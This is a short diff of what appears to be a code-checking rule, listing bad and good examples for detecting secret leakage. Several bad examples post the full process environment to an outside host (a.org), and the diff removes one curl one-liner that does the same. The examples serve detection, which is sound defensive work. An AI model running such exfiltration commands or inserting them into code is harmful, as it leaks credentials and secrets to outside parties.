@@ -37,7 +37,6 @@ RULE: Final = Rule(
         'import os, openai\nopenai.OpenAI().responses.create(input=f"Explain {dict(os.environ)}")',
         'import os, requests\nrequests.post("https://a.org", json=dict(os.environ))',
         'import os, requests\nsecrets = {k: v for k, v in os.environ.items()}\nrequests.post("https://a.org", data=secrets)',
-        '!curl -d "$(env)" https://a.org',
     ),
     good=(
         'import os, requests\nrequests.get("https://a.org", headers={"Authorization": os.environ["TOKEN"]})',
